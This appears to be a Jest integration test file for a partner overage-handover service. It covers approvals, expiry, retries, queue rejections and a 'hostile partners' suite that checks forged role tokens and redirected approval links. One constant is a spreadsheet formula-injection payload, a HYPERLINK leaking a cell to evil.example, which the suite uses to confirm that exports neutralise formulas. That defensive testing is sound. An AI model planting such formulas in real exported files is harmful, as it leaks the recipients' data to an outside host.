        const from = before.partnerId === '1001' ? { agent: 'contosoAdmin' as const, to: '1002', contacts: TO_LITWARE, sub: SUB_8 } : { agent: 'litwareAdmin' as const, to: '1001', contacts: TO_CONTOSO, sub: SUB_7 };
        const res = await c.ask(LUCERNE, { toPartnerId: from.to, azureEntitlementId: from.sub, expiresInDays: 1 }, from.agent);
        expect(Date.parse(res.json.expiresAt) - Date.parse(res.json.requestedAt)).toBe(8000);
        const links = await c.links(res.json.id, from.contacts);
        await c.answer(links.newPartner, 'approve');
        const done = await c.ended(res.headers.get('location')!, from.agent);
        expect(done.status).toBe('expired');
        expect(done.reminders).toEqual([{ at: expect.any(String), parties: ['currentPartner', 'customer'] }]);
        const reminderAt = Date.parse(done.reminders[0].at);
        expect(reminderAt).toBeGreaterThanOrEqual(Date.parse(done.requestedAt) + 4000);
        expect(reminderAt).toBeLessThan(Date.parse(done.expiresAt));
        const reminders = await c.mailsSince(done.requestedAt, [from.contacts.currentPartner, from.contacts.customer], /remind/i);
        expect(reminders[from.contacts.customer].links.some((l) => l.includes('/api/approvals/'))).toBe(true);
        expect((await c.mailbox()).filter((m) => /remind/i.test(m.subject) && m.receivedAt >= done.requestedAt && m.to.includes(from.contacts.newPartner))).toEqual([]);
        await c.mailsSince(done.outcome.at, ALL, /expire/i);
        expect(await c.pcOverage(LUCERNE)).toEqual(before);
        // the links expired with it
        const late = await c.answer(links.customer, 'approve');
        expect(late.status).toBe(410);
        expect(late.json.code).toBe('approval-link-expired');
    });

    test('a used link, a repeated answer and an answer for another handover change nothing; the requester cancels', async () => {
        const before = await c.pcOverage(LUCERNE);
        const from = before.partnerId === '1001' ? { agent: 'contosoAdmin' as const, other: 'litwareAdmin' as const, to: '1002', contacts: TO_LITWARE, sub: SUB_8 } : { agent: 'litwareAdmin' as const, other: 'contosoAdmin' as const, to: '1001', contacts: TO_CONTOSO, sub: SUB_7 };
        const res = await c.ask(LUCERNE, { toPartnerId: from.to, azureEntitlementId: from.sub }, from.agent);
        const id = res.json.id;
        const location = res.headers.get('location')!;
        const links = await c.links(id, from.contacts);
        expect((await c.answer(links.customer, 'approve')).status).toBe(200);
        const reused = await c.answer(links.customer, 'decline');
        expect(reused.status).toBe(409);
        expect(['approval-link-used', 'handover-already-decided']).toContain(reused.json.code);

        // signals straight to the run (an operator's raiseEvent): a repeat, and an answer issued for another handover
        const raise = (signal: Record<string, unknown>) => h.call('POST', h.durable(`instances/${encodeURIComponent(id)}/raiseEvent/handover-signal`), signal);
        expect((await raise({ kind: 'decision', party: 'customer', decision: 'decline', at: new Date().toISOString(), by: 'someone@else.example', handoverId: id })).status).toBe(202);
        expect((await raise({ kind: 'decision', party: 'newPartner', decision: 'approve', at: new Date().toISOString(), by: 'someone@else.example', handoverId: 'partnerHandover-other' })).status).toBe(202);
        const seen = await c.until(location, (x) => x.steps.filter((s: any) => /Ignored|another handover/.test(s.detail)).length === 2, from.agent);
        expect(seen.decisions).toMatchObject({ customer: { decision: 'approved' }, newPartner: null, currentPartner: null });
        expect(seen.status).toBe('awaiting-approvals');

        // only the requesting partner cancels
        const notMine = await h.as(from.other)('DELETE', new URL(location).pathname);
        expect(notMine.status).toBe(403);
        expect(notMine.json.code).toBe('not-requester');
        const cancelled = await h.as(from.agent)('DELETE', new URL(location).pathname);
        expect(cancelled.status).toBe(200);
        expect(cancelled.json).toMatchObject({ status: 'cancelled', cancelled: { by: expect.stringContaining('@') } });
        await c.mailsSince(cancelled.json.outcome.at, ALL, /cancel/i);
        await c.ended(location, from.agent);
        const afterCancel = await c.answer(links.newPartner, 'approve');
        expect(afterCancel.status).toBe(409);
        expect(await c.pcOverage(LUCERNE)).toEqual(before);
        // the list shows it to both partners
        const listed = (await h.as(from.other)('GET', `/api/customers/${LUCERNE}/overage/handovers`)).json.items;
        expect(listed.find((x: any) => x.id === id)).toMatchObject({ status: 'cancelled' });
    });
});

describe('the switch when things go wrong', () => {
    // The handover's refusals at the start, and its switch when things go wrong:
    // Partner Center faults after the approvals, partners this deployment does
    // not serve (mailed instructions, Partner Center polled), a new partner whose
    // assignment finally fails (failed-after-none, said loudly), and requests
    // arriving on the Service Bus queue.
    let h: AppHost;
    let c: ReturnType<typeof handoverClient>;
    const LUCERNE = CUSTOMERS.lucerne; // Contoso (1001) holds the assignment; Litware (1002) also sells an overage SKU there
    const SUB_7 = '30000000-0000-4000-8000-000000000007';
    const SUB_8 = '30000000-0000-4000-8000-000000000008';
    const CONTOSO = 'ops@contoso-telecom.example';
    const LITWARE = 'csp@litware-voice.example';
    const CUSTOMER = 'it@lucerne-publishing.example';
    const TO_LITWARE: Contacts = { currentPartner: CONTOSO, newPartner: LITWARE, customer: CUSTOMER };
    const TO_CONTOSO: Contacts = { currentPartner: LITWARE, newPartner: CONTOSO, customer: CUSTOMER };
    const OVERAGE_PATH = '^/v1/customers/[^/]+/subscriptions/overage$';
    let served: string | undefined;
    const restoreServed = () => {
        if (served === undefined) delete process.env.SERVED_PARTNERS;
        else process.env.SERVED_PARTNERS = served;
    };

    beforeAll(async () => {
        process.env.HANDOVER_SWITCH_RETRY_MS = '100';
        h = await freshAppHost();
        c = handoverClient(h);
        served = process.env.SERVED_PARTNERS;
    });
    afterAll(async () => {
        delete process.env.HANDOVER_SWITCH_RETRY_MS;
        delete process.env.HANDOVER_SWITCH_ATTEMPTS;
        restoreServed();
        await h.stop();
    });
    afterEach(async () => {
        await h.call('DELETE', '/simulator/faults');
        restoreServed();
    });

    const approveAll = async (id: string, contacts: Contacts) => {
        const links = await c.links(id, contacts);
        for (const party of ['currentPartner', 'newPartner', 'customer'] as const) expect((await c.answer(links[party], 'approve')).status).toBeLessThan(300);
    };

    test('refusals before anything is mailed: bad body, no token, wrong role, unknown customer, no owner, same partner, not eligible, an open handover', async () => {
        const post = (body: unknown, agent: Parameters<typeof h.as>[0] = 'contosoAdmin', customer: string = LUCERNE) => h.as(agent)('POST', `/api/customers/${customer}/overage/handovers`, body);
        const expectProblem = (res: Awaited<ReturnType<typeof post>>, status: number, code: string) => {
            expect([res.status, res.json.code]).toEqual([status, code]);
            expect(res.headers.get('content-type')).toContain('application/problem+json');
            expect(res.json.remedy).toEqual(expect.any(String));
        };
        const ok = { service: 'PhoneServices', toPartnerId: '1002', azureEntitlementId: SUB_8 };
        expectProblem(await post({ ...ok, expiresInDays: 31 }), 400, 'invalid-request');
        expectProblem(await post({ ...ok, azureEntitlementId: 'nope' }), 400, 'invalid-request');
        expectProblem(await post({ ...ok, extra: true }), 400, 'invalid-request');
        const anonymous = await h.call('POST', `/api/customers/${LUCERNE}/overage/handovers`, ok);
        expect(anonymous.status).toBe(401);
        expectProblem(await post(ok, 'contosoSales'), 403, 'role-not-permitted');
        expectProblem(await post(ok, 'contosoAdmin', '10000000-0000-4000-8000-0000000000ff'), 404, 'customer-not-found');
        expectProblem(await post(ok, 'contosoAdmin', CUSTOMERS.coho), 409, 'no-current-owner');
        expectProblem(await post({ ...ok, toPartnerId: '1001' }), 409, 'same-partner');
        expectProblem(await post(ok, 'contosoAdmin', CUSTOMERS.fabrikam), 409, 'not-eligible');
        // a partner this deployment does not serve: its contact must be given
        process.env.SERVED_PARTNERS = '{}';
        expectProblem(await post(ok), 400, 'contact-required');
        restoreServed();

        const first = await post(ok);
        expect(first.status).toBe(202);
        const again = await post({ ...ok, azureEntitlementId: 'new' }, 'litwareAdmin');
        expectProblem(again, 409, 'handover-open');
        expect(again.json.handoverId).toBe(first.json.id);
        // an enablement cannot interleave with an open handover either
        const enable = await h.enable(LUCERNE, { azureEntitlementId: SUB_7 });
        expect([enable.status, enable.json.code]).toEqual([409, 'run-in-progress']);
        // nor can the run be ended behind the parties' backs
        const asRun = await h.as('contosoAdmin')('DELETE', `/api/customers/${LUCERNE}/overage/runs/${first.json.id}`);
        expect([asRun.status, asRun.json.code]).toEqual([409, 'use-handover-cancel']);
        expect((await h.as('contosoAdmin')('DELETE', new URL(first.headers.get('location')!).pathname)).status).toBe(200);
        await c.ended(first.headers.get('location')!);
    });

    test('Partner Center faults after the approvals are retried: the switch completes with one owner, None written first', async () => {
        const since = await c.logSeq();
        const res = await c.ask(LUCERNE, { toPartnerId: '1002', azureEntitlementId: SUB_8 });
        expect(res.status).toBe(202);
        await h.call('POST', '/simulator/faults', { faults: [{ match: { method: 'PUT', pathPattern: OVERAGE_PATH }, kind: 'status500', times: 6 }] });
        await approveAll(res.json.id, TO_LITWARE);
        const done = await c.ended(res.headers.get('location')!, 'contosoAdmin', 60_000);
        expect(done.status).toBe('completed');
        expect(done.steps.some((s: any) => /Attempt 1 of 5 failed/.test(s.detail))).toBe(true);
        expect(await c.pcOverage(LUCERNE)).toMatchObject({ partnerId: '1002', azureEntitlementId: SUB_8, overageEnabled: true });
        expect(await c.overageWrites(since)).toEqual(['1001', '1002']);
    }, 90_000);

    test('a current partner this deployment does not serve is mailed what to do; the run waits until Partner Center shows None', async () => {
        process.env.SERVED_PARTNERS = '{}'; // only the caller's own partner (Contoso, the new partner here)
        const res = await c.ask(LUCERNE, { toPartnerId: '1001', azureEntitlementId: SUB_7, contacts: { currentPartner: LITWARE } });
        expect(res.status).toBe(202);
        expect(res.json.parties.currentPartner).toMatchObject({ partnerId: '1002', served: false });
        await approveAll(res.json.id, TO_CONTOSO);
        const instructions = await c.mailsSince(res.json.requestedAt, [LITWARE], /action|instruction|set.*none/i);
        expect(instructions[LITWARE].text).toContain(LUCERNE);
        expect(instructions[LITWARE].text).toMatch(/None/);
        const waiting = await c.read(res.headers.get('location')!);
        expect(waiting.status).toBe('switching');
        // Litware sets None itself, in its own tools
        expect((await c.pcSetOverage('litwareAdmin', LUCERNE, { azureEntitlementId: null, overageEnabled: false })).status).toBeLessThan(300);
        const done = await c.ended(res.headers.get('location')!);
        expect(done).toMatchObject({ status: 'completed', azureEntitlementId: SUB_7 });
        expect(await c.pcOverage(LUCERNE)).toMatchObject({ partnerId: '1001', azureEntitlementId: SUB_7, overageEnabled: true });
    });

    test('a new partner this deployment does not serve is mailed what to assign; the run completes once Partner Center shows it', async () => {
        process.env.SERVED_PARTNERS = '{}';
        const since = await c.logSeq();
        const res = await c.ask(LUCERNE, { toPartnerId: '1002', azureEntitlementId: SUB_8, contacts: { newPartner: LITWARE } });
        expect(res.status).toBe(202);
        await approveAll(res.json.id, TO_LITWARE);
        const instructions = await c.mailsSince(res.json.requestedAt, [LITWARE], /action|instruction|assign/i);
        expect(instructions[LITWARE].text).toContain(SUB_8);
        await c.until(res.headers.get('location')!, (x) => x.noneSetAt !== undefined);
        expect(await c.pcOverage(LUCERNE)).toMatchObject({ partnerId: '1001', overageEnabled: false });
        expect((await c.pcSetOverage('litwareAdmin', LUCERNE, { azureEntitlementId: SUB_8, overageEnabled: true })).status).toBeLessThan(300);
        const done = await c.ended(res.headers.get('location')!);
        expect(done).toMatchObject({ status: 'completed', azureEntitlementId: SUB_8 });
        expect(await c.overageWrites(since)).toEqual(['1001', '1002']);
    });

    test('when the new partner\'s assignment finally fails after None, the handover says so loudly and the remedy works', async () => {
        process.env.SERVED_PARTNERS = '{}';
        process.env.HANDOVER_SWITCH_ATTEMPTS = '2';
        const res = await c.ask(LUCERNE, { toPartnerId: '1001', azureEntitlementId: SUB_7, contacts: { currentPartner: LITWARE } });
        expect(res.status).toBe(202);
        await approveAll(res.json.id, TO_CONTOSO);
        await c.mailsSince(res.json.requestedAt, [LITWARE], /action|instruction|none/i);
        // Litware sets None; then Partner Center fails every write of Contoso's
        expect((await c.pcSetOverage('litwareAdmin', LUCERNE, { azureEntitlementId: null, overageEnabled: false })).status).toBeLessThan(300);
        await h.call('POST', '/simulator/faults', { faults: [{ match: { method: 'PUT', pathPattern: OVERAGE_PATH }, kind: 'status500' }] });
        const done = await c.ended(res.headers.get('location')!, 'contosoAdmin', 60_000);
        expect(done.status).toBe('failed-after-none');
        expect(done.outcome.remedy).toContain('enable overage for this customer');
        const loud = await c.mailsSince(done.outcome.at, [CONTOSO, LITWARE], /./);
        expect(loud[CONTOSO].subject).toMatch(/urgent|action/i);
        expect(loud[CONTOSO].text).toContain(SUB_7);
        expect(await c.pcOverage(LUCERNE)).toMatchObject({ partnerId: '1002', overageEnabled: false });

        // the remedy: Contoso switches overage on itself
        await h.call('DELETE', '/simulator/faults');
        const enable = await h.enable(LUCERNE, { azureEntitlementId: SUB_7 });
        expect(enable.status).toBe(202);
        expect(await h.finish(enable.headers.get('location')!)).toMatchObject({ result: 'enabled' });
        delete process.env.HANDOVER_SWITCH_ATTEMPTS;
    }, 90_000);

    test('handover requests on the Service Bus queue start like the POST; those that can never succeed are rejected with their reason', async () => {
        const send = (body: unknown, props: Record<string, string>) => h.call('POST', '/admin/queues/overage-handover-requests/messages', { body, applicationProperties: props }, { 'x-functions-key': h.host.systemKey });
        const contoso = { partnerId: '1001', agentUpn: 'admin@contoso-telecom.example', agentRoles: 'AdminAgent' };
        expect((await send({ customerTenantId: LUCERNE, service: 'PhoneServices', toPartnerId: '1002', azureEntitlementId: SUB_8 }, contoso)).status).toBeLessThan(300);
        expect((await send({ customerTenantId: LUCERNE, service: 'PhoneServices', toPartnerId: '1001', azureEntitlementId: SUB_8 }, contoso)).status).toBeLessThan(300);
        const open = await c.poll('the queued handover', async () => {
            const items = (await h.as('contosoAdmin')('GET', `/api/customers/${LUCERNE}/overage/handovers`)).json.items;
            return items.find((x: any) => x.status === 'awaiting-approvals' && x.toPartnerId === '1002');
        });
        const rejected = await c.poll('the rejected request', async () => {
            const list = await h.call('GET', '/admin/queues/overage-handover-requests-rejected', undefined, { 'x-functions-key': h.host.systemKey });
            return list.json.active > 0 ? list.json : undefined;
        });
        expect(rejected.active).toBe(1);
        const kept = await h.host.queues.receive('overage-handover-requests-rejected');
        expect(kept?.body).toMatchObject({ deadLetterReason: 'same-partner', originalBody: { toPartnerId: '1001' } });
        expect((await h.as('contosoAdmin')('DELETE', new URL(open.links.self).pathname)).status).toBe(200);
        await c.ended(open.links.self);
    });
});

describe('hostile partners', () => {
    // Partners trying what they must not, as issue 18 observed it against the
    // demo world: redirecting another party's approval link, tokens that claim a
    // role Partner Center does not give, queue messages that can never succeed,
    // live reads that dodge the refresh limit, a reseller dropped from a disable,
    // formulas in a reconciliation file, and a huge unauthenticated token request.
    let h: AppHost;
    let c: ReturnType<typeof handoverClient>;
    const LUCERNE = CUSTOMERS.lucerne; // Contoso (1001) holds the assignment (set outside the app); Litware (1002) also sells an overage SKU there
    const GDI = CUSTOMERS.graphicDesign; // Contoso's overage on SUB_14 (set outside the app); renamed to a formula below
    const CONTOSO = 'ops@contoso-telecom.example';
    const LITWARE = 'csp@litware-voice.example';
    const ATTACKER = 'attacker@litware-voice.example';
    const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&B2,"Lucerne")';
    let served: string | undefined;

    beforeAll(async () => {
        h = await freshAppHost({
            edit: (world) => {
                const gdi = world.customers.find((x: { tenantId: string }) => x.tenantId === GDI);
                gdi.name = FORMULA_NAME;
                gdi.credits = null;
            },
        });
        c = handoverClient(h);
        served = process.env.SERVED_PARTNERS;
    });
    afterAll(async () => { await h.stop(); });
    afterEach(async () => {
        if (served === undefined) delete process.env.SERVED_PARTNERS;
        else process.env.SERVED_PARTNERS = served;
        await h.call('DELETE', '/simulator/faults');
    });

    const operator = () => ({ 'x-functions-key': h.host.systemKey });
    const expectProblem = (res: { status: number; json: any }, status: number, code: string) => expect([res.status, res.json?.code]).toEqual([status, code]);

    /** A token whose roles claim says whatever its holder asked the issuer for. */
    const tokenOf = async (partnerId: string, upn: string, roles: string[]) => (await h.call('POST', '/simulator/token', { partnerId, upn, roles })).json.access_token as string;
    const asToken = (token: string) => (method: string, path: string, body?: unknown, headers: Record<string, string> = {}) =>
        h.call(method, path, body, { authorization: `Bearer ${token}`, ...headers });

    const sendTo = (queue: string, body: unknown, props: Record<string, string>) =>
        h.call('POST', `/admin/queues/${queue}/messages`, { body, applicationProperties: props }, operator());
    /** The reason a message was set aside on `<queue>-rejected` with, once it is there. */
    async function rejection(queue: string): Promise<{ deadLetterReason: string; deadLetterErrorDescription: string; originalBody: any }> {
        await c.poll(`a message on ${queue}-rejected`, async () => ((await h.call('GET', `/admin/queues/${queue}-rejected`, undefined, operator())).json.active > 0 ? true : undefined));
        const kept = await h.host.queues.receive(`${queue}-rejected`);
        return kept!.body as any;
    }
    const deadLetters = async (queue: string) => (await h.call('GET', `/admin/queues/${queue}/deadletters`, undefined, operator())).json;

    describe('1. approval links go to the contacts Partner Center holds', () => {
        // Lucerne from Contoso to Litware, asked by either of the two
        const askLucerne = (agent: 'contosoAdmin' | 'litwareAdmin', contacts: Record<string, string>) =>
            c.ask(LUCERNE, { toPartnerId: '1002', azureEntitlementId: SUB_8, contacts }, agent);

        test('Litware, the new partner, cannot send Contoso\'s invitation to itself', async () => {
            const since = new Date().toISOString();
            const res = await askLucerne('litwareAdmin', { currentPartner: ATTACKER });
            expectProblem(res, 400, 'contact-not-accepted');
            expect(res.json.detail).toContain('1001');
            await new Promise((r) => setTimeout(r, 300));
            expect((await c.mailbox()).filter((m) => m.receivedAt >= since)).toEqual([]);
        });

        test('Contoso, the current partner, cannot make Litware the payer by answering for it', async () => {
            const res = await askLucerne('contosoAdmin', { newPartner: ATTACKER });
            expectProblem(res, 400, 'contact-not-accepted');
            expect(res.json.detail).toContain('1002');
        });

        test('without contacts, each served partner\'s legal contact gets its own invitation', async () => {
            const res = await c.ask(LUCERNE, { toPartnerId: '1002', azureEntitlementId: SUB_8 }, 'litwareAdmin');
            expect(res.status).toBe(202);
            await c.links(res.json.id, { currentPartner: CONTOSO, newPartner: LITWARE, customer: 'it@lucerne-publishing.example' });
            expect((await h.as('litwareAdmin')('DELETE', new URL(res.headers.get('location')!).pathname)).status).toBe(200);
            await c.ended(res.headers.get('location')!, 'litwareAdmin');
        });

        test('a contact given for a partner the deployment does not serve is shown to all three parties as given by the requester', async () => {
            process.env.SERVED_PARTNERS = '{}'; // Litware asks; Contoso is not served, so its contact must be given
            const res = await c.ask(LUCERNE, { toPartnerId: '1002', azureEntitlementId: SUB_8, contacts: { currentPartner: 'overage@contoso.example' } }, 'litwareAdmin');
            expect(res.status).toBe(202);
            expect(res.json.parties.currentPartner).toMatchObject({ partnerId: '1001', served: false, contact: 'overage@contoso.example', contactGivenBy: '1002' });
            const contacts = { currentPartner: 'overage@contoso.example', newPartner: LITWARE, customer: 'it@lucerne-publishing.example' };
            await c.links(res.json.id, contacts);
            const invites = await c.mailsSince(res.json.requestedAt, Object.values(contacts), /./);
            for (const mail of Object.values(invites)) expect(mail.text).toMatch(/overage@contoso\.example, as given by admin@litware-voice\.example of Litware Voice/);
            expect((await h.as('litwareAdmin')('DELETE', new URL(res.headers.get('location')!).pathname)).status).toBe(200);
            await c.ended(res.headers.get('location')!, 'litwareAdmin');
        });
    });

    describe('4 and 11. roles come from Partner Center, at every entry', () => {
        const CSV = 'UsageId,Start Time,Duration Seconds,Call Type,Number Type,Domestic/International,Destination Dialed,User Location,Currency,Capability\nx1,2026-11-02T10:00:00Z,28800,user_out,user,Domestic,BE,BE,EUR,MCOPSTN1\n';
        const pretenders = [
            ['a sales agent', 'sales@contoso-telecom.example'],
            ['a helpdesk agent', 'helpdesk@contoso-telecom.example'],
            ['a user Partner Center does not know', 'intruder@contoso-telecom.example'],
        ] as const;

        test.each(pretenders)('%s whose token claims AdminAgent changes nothing: 403 role-not-permitted everywhere', async (_who, upn) => {
            const as = asToken(await tokenOf('1001', upn, ['AdminAgent']));
            expectProblem(await as('POST', `/api/customers/${LUCERNE}/usage`, CSV, { 'content-type': 'text/csv' }), 403, 'role-not-permitted');
            expectProblem(await as('POST', '/api/accruals/2026-11'), 403, 'role-not-permitted');
            expectProblem(await as('POST', `/api/customers/${LUCERNE}/overage/handovers`, { service: 'PhoneServices', toPartnerId: '1002', azureEntitlementId: SUB_8 }), 403, 'role-not-permitted');
            expectProblem(await as('POST', `/api/customers/${CUSTOMERS.fabrikam}/overage/enablements`, { service: 'PhoneServices', azureEntitlementId: 'new' }), 403, 'role-not-permitted');
            expectProblem(await as('PUT', `/api/v1/customers/${LUCERNE}/subscriptions/overage`, { azureEntitlementId: SUB_7, overageEnabled: false }), 403, 'role-not-permitted');
            const since = new Date().toISOString();
            await new Promise((r) => setTimeout(r, 300));
            expect((await c.mailbox()).filter((m) => m.receivedAt >= since)).toEqual([]);
        });

        test('a helpdesk agent whose token claims SalesAgent cannot read either', async () => {
            const as = asToken(await tokenOf('1001', 'helpdesk@contoso-telecom.example', ['SalesAgent']));
            expectProblem(await as('GET', `/api/customers/${LUCERNE}/overage`), 403, 'role-not-permitted');
            expectProblem(await as('GET', `/api/customers/${LUCERNE}/overage/handovers`), 403, 'role-not-permitted');
            expectProblem(await as('GET', '/api/customers'), 403, 'role-not-permitted');
            expectProblem(await as('GET', '/api/partners/1001/reconciliation/2026-11.csv'), 403, 'role-not-permitted');
        });

        test('a sales agent who claims AdminAgent on each queue is rejected once with role-not-permitted: no handover, no usage, no run', async () => {
            const props = { partnerId: '1001', agentUpn: 'sales@contoso-telecom.example', agentRoles: 'AdminAgent' };
            await sendTo('overage-handover-requests', { customerTenantId: LUCERNE, service: 'PhoneServices', toPartnerId: '1002', azureEntitlementId: SUB_8 }, props);
            expect(await rejection('overage-handover-requests')).toMatchObject({ deadLetterReason: 'role-not-permitted' });
            await sendTo('pstn-usage', { customerTenantId: LUCERNE, rows: [{ UsageId: 'q1', 'Start Time': '2026-11-02T10:00:00Z', 'Duration Seconds': 60, 'Call Type': 'user_out', 'Number Type': 'user', 'Domestic/International': 'Domestic', 'Destination Dialed': 'BE', 'User Location': 'BE', Currency: 'EUR', Capability: 'MCOPSTN1' }] }, props);
            expect(await rejection('pstn-usage')).toMatchObject({ deadLetterReason: 'role-not-permitted' });
            await sendTo('overage-enablement-requests', { customerTenantId: CUSTOMERS.fabrikam, service: 'PhoneServices', azureEntitlementId: 'new' }, props);
            expect(await rejection('overage-enablement-requests')).toMatchObject({ deadLetterReason: 'role-not-permitted' });
            expect((await h.as('contosoAdmin')('GET', `/api/customers/${LUCERNE}/overage/handovers`)).json.items.filter((x: any) => x.status === 'awaiting-approvals')).toEqual([]);
            expect((await h.as('contosoAdmin')('GET', `/api/customers/${CUSTOMERS.fabrikam}/overage/runs`)).json.items).toEqual([]);
        });
    });

    describe('8. queue messages that can never succeed go once to the rejected queue', () => {
        const contoso = { partnerId: '1001', agentUpn: 'admin@contoso-telecom.example', agentRoles: 'AdminAgent' };

        test.each([
            ['an unknown customer', '10000000-0000-4000-8000-0000000000ff'],
            ['a customer of another partner only', CUSTOMERS.wideWorld],
        ])('a handover request for %s: customer-not-found, not retried', async (_what, customer) => {
            await sendTo('overage-handover-requests', { customerTenantId: customer, service: 'PhoneServices', toPartnerId: '1002', azureEntitlementId: SUB_8 }, contoso);
            expect(await rejection('overage-handover-requests')).toMatchObject({ deadLetterReason: 'customer-not-found', originalBody: { customerTenantId: customer } });
            expect(await deadLetters('overage-handover-requests')).toEqual([]);
        });

        test('an enablement request for an unknown customer: customer-not-found, not retried', async () => {
            await sendTo('overage-enablement-requests', { customerTenantId: '10000000-0000-4000-8000-0000000000fe', service: 'PhoneServices', azureEntitlementId: 'new' }, contoso);
            expect(await rejection('overage-enablement-requests')).toMatchObject({ deadLetterReason: 'customer-not-found' });
            expect(await deadLetters('overage-enablement-requests')).toEqual([]);
        });
    });

    describe('9. live reads of Partner Center share the limit', () => {
        const partnerCenterDown = () => h.call('POST', '/simulator/faults', { faults: [{ match: { pathPattern: '^/v1/' }, kind: 'status500', times: 1000 }] });

        test('diagnostics read Partner Center at most once per refresh window; in between, the last answer, saying when it was read', async () => {
            expect((await h.as('contosoSales')('GET', `/api/customers/${LUCERNE}/overage`)).status).toBe(200); // the console opens the customer first
            const first = await h.as('contosoSales')('GET', `/api/customers/${LUCERNE}/overage/diagnostics`);
            expect(first.status).toBe(200);
            await partnerCenterDown();
            const second = await h.as('contosoSales')('GET', `/api/customers/${LUCERNE}/overage/diagnostics`);
            expect(second.status).toBe(200);
            expect(second.json).toMatchObject({ ...first.json, asOf: first.json.asOf, servedFrom: 'cache' });
            expect(first.json.servedFrom).toBe('partner-center');
        });

        test('the Partner Center-shaped GET answers from the read model once it was read', async () => {
            const first = await h.as('contosoSales')('GET', `/api/v1/customers/${GDI}/subscriptions/overage`);
            expect(first.status).toBe(200);
            expect(first.json.items[0]).toMatchObject({ partnerId: '1001', overageEnabled: true, type: 'PhoneServices' });
            await partnerCenterDown();
            const second = await h.as('contosoSales')('GET', `/api/v1/customers/${GDI}/subscriptions/overage`);
            expect([second.status, second.json]).toEqual([200, first.json]);
        });
    });

    describe('10. the Partner Center-shaped PUT checks the reseller both ways', () => {
        test('a direct partner naming a reseller in a disable is refused, as in an enable', async () => {
            const body = { azureEntitlementId: SUB_7, partnerId: '3001' };
            expectProblem(await h.as('contosoAdmin')('PUT', `/api/v1/customers/${LUCERNE}/subscriptions/overage`, { ...body, overageEnabled: false }), 403, 'not-reseller-of-provider');
            expectProblem(await h.as('contosoAdmin')('PUT', `/api/v1/customers/${LUCERNE}/subscriptions/overage`, { ...body, overageEnabled: true }), 403, 'not-reseller-of-provider');
        });

        test('a provider naming a partner that is not its reseller in a disable is refused', async () => {
            expectProblem(await h.as('tailspinAdmin')('PUT', `/api/v1/customers/${CUSTOMERS.wideWorld}/subscriptions/overage`, { azureEntitlementId: null, overageEnabled: false, partnerId: '1002' }), 403, 'not-reseller-of-provider');
        });
    });

    describe('3. exports neutralise formulas', () => {
        test('a customer name from Partner Center that is a formula reaches the reconciliation file as text', async () => {
            const rates = { currency: 'EUR', effectiveFrom: '2026-01-01', rates: [{ meterId: 'tc-gb', meterName: '+Calls to GB', meterCategory: 'Teams Calling', destination: 'GB', perMinute: 0.04, connectionFee: 0.01 }] };
            expect((await h.call('PUT', '/api/rates', rates, operator())).status).toBe(200);
            const csv = 'UsageId,Start Time,Duration Seconds,Call Type,Number Type,Domestic/International,Destination Dialed,User Location,Currency,Capability\ng1,2026-11-05T08:00:00Z,61,user_out,user,International,United Kingdom,IE,EUR,MCOPSTN1\n';
            expect((await h.as('contosoAdmin')('POST', `/api/customers/${GDI}/usage`, csv, { 'content-type': 'text/csv' })).status).toBe(200);
            await runMonth(h, '2026-11');
            const file = await h.as('contosoAdmin')('GET', '/api/partners/1001/reconciliation/2026-11.csv');
            expect(file.status).toBe(200);
            const lines = (parse(file.text, { columns: true }) as Array<Record<string, string>>).filter((l) => l.CustomerId === GDI);
            expect(lines.length).toBe(2);
            for (const line of lines) {
                expect(line.CustomerName).toBe(`'${FORMULA_NAME}`);
                expect(line.MeterName).toMatch(/^'\+Calls to GB/);
                expect(line.UnitPrice).toMatch(/^\d/);
            }
        }, 90_000);
    });

    describe('12. the simulator\'s token endpoint', () => {
        test('refuses a body larger than any token request before reading it whole', async () => {
            const res = await fetch(`${h.url}/simulator/token`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: `{"upn":"${'x'.repeat(5 * 1024 * 1024)}"}` });
            expect(res.status).toBe(413);
        });
    });
});
